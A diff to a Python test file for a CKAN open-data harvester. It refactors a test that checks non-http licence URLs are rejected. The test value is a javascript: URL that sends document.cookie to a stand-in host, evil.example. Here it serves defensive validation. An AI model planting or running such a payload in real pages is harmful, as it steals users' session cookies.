@@ -12,17 +12,13 @@ from __future__ import annotations
 import base64
 import hashlib
 import re
-import shutil
 
 import httpx
 import pytest
 import yaml
-from ckan_replay import ReplayPortal
-from conftest import ROOT, publish_in
+from conftest import publish_in
 from playwright.sync_api import sync_playwright
-from test_ckan_harvest import FAST
-
-from pipelines.harvest.harvester import HarvestOptions, harvest
+from test_ckan_harvest import portal, project, run  # noqa: F401 (fixtures)
 
 CHROMIUM = "/usr/bin/chromium"
 BAD_LINKS = [
@@ -83,30 +79,17 @@ def test_http_mailto_and_a_relative_source_path_are_accepted(copy_project):
     assert result.returncode == 0, result.stdout + result.stderr
 
 
-def test_a_harvested_licence_url_that_is_not_http_fails_that_package(tmp_path, realdata):
-    (tmp_path / "datasets").mkdir()
-    shutil.copytree(ROOT / "metadata", tmp_path / "metadata")
+def test_a_harvested_licence_url_that_is_not_http_fails_that_package(project, portal):  # noqa: F811
     bad = "javascript:fetch('//evil.example/'+document.cookie)"
-    with ReplayPortal(realdata) as portal:
-        portal.packages["kecamatan-kota-bogor"]["license_url"] = bad
-        report = harvest(
-            HarvestOptions(
-                portal=portal.url,
-                datasets_dir=tmp_path / "datasets",
-                metadata_dir=tmp_path / "metadata",
-                cache_dir=tmp_path / ".cache",
-                settings=FAST,
-                today="2025-05-25",
-                tag="wilayah",
-            )
-        )
+    portal.packages["kecamatan-kota-bogor"]["license_url"] = bad
+    report = run(project, portal, tag="wilayah")
     [failed] = [o for o in report.outcomes if o.id == "kecamatan-kota-bogor"]
     assert failed.status == "failed"
     assert failed.error["kind"] == "bad-link"
     assert failed.message.startswith(f"license_url: {MESSAGE.format(v=bad)}")
     assert report.exit_code == 1
-    assert not (tmp_path / "datasets/kecamatan-kota-bogor").exists()
-    harvested = tmp_path / "metadata/harvested/licences.yaml"
+    assert not (project / "datasets/kecamatan-kota-bogor").exists()
+    harvested = project / "metadata/harvested/licences.yaml"
     assert not harvested.exists() or "javascript" not in harvested.read_text()
 
 
